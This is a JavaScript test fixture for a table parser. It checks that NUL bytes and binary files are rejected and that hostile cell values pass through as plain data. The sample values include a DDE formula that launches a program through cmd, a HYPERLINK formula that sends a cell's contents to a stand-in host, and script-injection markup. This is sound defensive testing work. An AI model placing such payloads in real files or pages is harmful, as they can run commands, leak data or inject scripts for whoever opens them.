// What is no table, what attacks who opens it, and NUL.
import { bytes, h } from './bytes.js';

const header = ['a', 'b', 'c'];
const binary = (kind) => ({ error: { code: 'binary_file', kind } });
const nul = (line) => ({ error: { code: 'nul_bytes', line } });
const one = (value) => ({ header, rows: [[2, 'i', '1', value]] });

export default [
  ['a NUL in a field', `${h}i;1;x\nj;2;y\0z\n`, nul(3)],
  ['a NUL in quotes', `${h}i;1;"x\n\0"\n`, nul(3)],
  ['a NUL in the header', 'a;b;c\0\ni;1;x\n', nul(1)],
  ['a NUL as the last byte', `${h}i;1;x\n\0`, nul(3)],
  ['NULs for the end of a file, as a power failure leaves', `${h}i;1;x\n${'\0'.repeat(4096)}`,
    nul(3)],
  ['a database of SQLite', bytes('SQLite format 3\0', 16, 0, 1, 1), binary('sqlite')],
  ['controls alone', bytes(...Array.from({ length: 400 }, (_, i) => 1 + (i % 8))),
    binary('unknown')],
  ['a workbook', bytes('PK', 3, 4, 20, 0, 6, 0, '[Content_Types].xml xl/workbook.xml'),
    binary('xlsx')],
  ['a workbook of 1997', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), binary('xls')],
  ['an OpenDocument spreadsheet',
    bytes('PK', 3, 4, 20, 0, 0, 0, 'mimetypeapplication/vnd.oasis.opendocument.spreadsheet'),
    binary('zip')],
  ['an empty ZIP', bytes('PK', 5, 6, ...Array(18).fill(0)), binary('zip')],
  ['a file by gzip', bytes(0x1f, 0x8b, 8, 0, 0, 0, 0, 0), binary('gzip')],
  ['a PDF', '%PDF-1.7\n%âãÏÓ\n', binary('pdf')],
  ['a picture', bytes(0x89, 'PNG\r\n', 0x1a, '\n'), binary('unknown')],
  ['a file of Parquet', bytes('PAR1', 0x15, 4, 0x15),
    { error: { code: 'data_broken' } }],
  ['a web page', '<!doctype html>\n<html><body><table></table></body></html>\n',
    { error: { code: 'missing_column', column: 'a' } }],
  ['JSON', '[{"a":1,"b":2},\n{"a":3,"b":4}]\n', { error: { code: 'unclosed_quote', line: 1 } }],
  ['a formula that starts a program', `${h}i;1;=cmd|' /C calc'!A0\n`, one("=cmd|' /C calc'!A0")],
  ['formulas by every sign', `${h}i;1;=1+1\nj;2;+1\nk;3;-1\nl;4;@SUM(A1)\nm;5;\t=1\n`,
    { header, rows: [[2, 'i', '1', '=1+1'], [3, 'j', '2', '+1'], [4, 'k', '3', '-1'],
      [5, 'l', '4', '@SUM(A1)'], [6, 'm', '5', '\t=1']] }],
  ['a quoted formula that sends a cell', `${h}i;1;"=HYPERLINK(""http://x.invalid/?""&A1;""y"")"\n`,
    one('=HYPERLINK("http://x.invalid/?"&A1;"y")')],
  ['numbers that Excel writes as formulas', `${h}i;1;="007"\n`, one('="007"')],
  ['markup', `${h}i;1;<img src=x onerror=alert(1)>\n`, one('<img src=x onerror=alert(1)>')],
  ['markup in a name', 'a;b;<script>c</script>\ni;1;x\n',
    { header: ['a', 'b', '<script>c</script>'], rows: [[2, 'i', '1', 'x']] }],
  ['patterns of templates and formats', `${h}i;1;\${x} {{x}} %s %n $& \\u0000\n`,
    one('${x} {{x}} %s %n $& \\u0000')],
  ['what other programs call missing', `${h}i;1;NULL\nj;2;NA\nk;3;NaN\nl;4;#N/A\nm;5;\\N\n`,
    { header, rows: [[2, 'i', '1', 'NULL'], [3, 'j', '2', 'NA'], [4, 'k', '3', 'NaN'],
      [5, 'l', '4', '#N/A'], [6, 'm', '5', '\\N']] }],
];
